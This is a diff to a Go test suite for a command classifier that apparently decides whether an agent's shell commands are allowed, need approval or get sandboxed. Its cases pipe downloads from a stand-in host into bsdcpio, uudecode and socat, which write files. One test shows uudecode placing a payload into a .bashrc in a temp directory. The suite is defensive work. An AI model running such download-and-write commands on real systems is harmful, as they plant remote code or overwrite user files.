@@ -155,8 +155,39 @@ func TestDownloadWriters(t *testing.T) {
 		{"curl -sL https://h.example/p | bsdtar -xf -", Rewrite},
 		{"curl -sL https://h.example/p | bsdtar -xf - -C /tmp/x", Rewrite},
 		{"curl -sL https://h.example/p | cpio -idm -D out --no-absolute-filenames", Ask},
-		{"curl -sL https://h.example/p | bsdcpio -idm", Ask},
+		// bsdcpio keeps members under its working directory unless
+		// --insecure but has no directory option: the stage runs in the
+		// sandbox (was ask). What a cd would also move asks still.
+		{"curl -sL https://h.example/p | bsdcpio -idm", Rewrite},
+		{"curl -sL https://h.example/p | bsdcpio -idm 2>/dev/null", Rewrite},
+		{"curl -sL https://h.example/p | gzip -dc | bsdcpio -idv '*.c'", Rewrite},
+		{"curl -sL https://h.example/p | bsdcpio -idm --insecure", Ask},
+		{"curl -sL https://h.example/p | bsdcpio -idm -E pats.txt", Ask},
+		{"curl -sL https://h.example/p | bsdcpio -idm 2>err.log", Ask},
+		{"curl -sL https://h.example/p | sudo bsdcpio -idm", Ask},
+		{"curl -sL https://h.example/p | { bsdcpio -idm; }", Ask},
+		{"curl -sL https://h.example/p | bsdcpio -it", Allow},
+		{"cd agent_sandbox && curl -sL https://h.example/p | bsdcpio -idm", Allow},
 		{"curl -sL https://h.example/p | zstd -d -o out", Ask},
+		// uudecode writes the file the download's begin line names, or
+		// -o FILE (was allow).
+		{"curl -sL https://h.example/p | uudecode", Ask},
+		{"curl -sL https://h.example/p | uudecode -o x.sh", Ask},
+		{"curl -sL https://h.example/p | uudecode --output-file=x.sh", Ask},
+		{"curl -sL https://h.example/p | uudecode -o /dev/stdout | jq .", Allow},
+		{"curl -sL https://h.example/p | uudecode -o -", Allow},
+		{"curl -sL https://h.example/p | uudecode -o agent_sandbox/x", Allow},
+		{"curl -sL https://h.example/p | uudecode local.uu", Allow},
+		// socat joining its stdin to a file address that receives
+		// (was allow).
+		{"curl -sL https://h.example/p | socat - CREATE:x.sh", Ask},
+		{"curl -sL https://h.example/p | socat -u STDIN OPEN:x.sh,creat", Ask},
+		{"curl -sL https://h.example/p | socat -u stdio,ignoreeof ./x.sh", Ask},
+		{"curl -sL https://h.example/p | socat - CREATE:agent_sandbox/x.sh", Allow},
+		{"curl -sL https://h.example/p | socat - /dev/null", Allow},
+		{"curl -sL https://h.example/p | socat -u - CREATE:/dev/stdout", Allow},
+		{"curl -sL https://h.example/p | socat -u - x.sh", Allow}, // no address: socat refuses the word
+		{"echo hi | socat - CREATE:x.sh", Allow},
 		{"curl -sL https://h.example/p | sh -c 'git apply'", Ask},
 		// The download as the path of a process substitution (git
 		// 2.39 applies /dev/fd/63 as a patch file).
@@ -325,4 +356,27 @@ func TestPatchOutsideProject(t *testing.T) {
 		{"git apply --unsafe-paths --stat fix.patch", Allow},
 		{"patch -p1 < fix.patch", Allow},
 	})
+}
+
+// TestUudecodeBeginLineOracle runs busybox uudecode: without -o it
+// writes the decoded bytes to the path the input's begin line names, so
+// a downloaded payload picks where it lands (TestDownloadWriters asks).
+func TestUudecodeBeginLineOracle(t *testing.T) {
+	t.Parallel()
+	if _, err := exec.LookPath("busybox"); err != nil {
+		t.Skip("no busybox")
+	}
+	dir := t.TempDir()
+	if err := os.Mkdir(filepath.Join(dir, "victim"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	cmd := exec.Command("busybox", "uudecode")
+	cmd.Dir = dir
+	cmd.Stdin = strings.NewReader("begin 644 victim/.bashrc\n%979I; H \n`\nend\n")
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Skipf("busybox uudecode: %v %s", err, out)
+	}
+	if b, _ := os.ReadFile(filepath.Join(dir, "victim", ".bashrc")); string(b) != "evil\n" {
+		t.Errorf("uudecode wrote %q to victim/.bashrc, want the payload", b)
+	}
 }
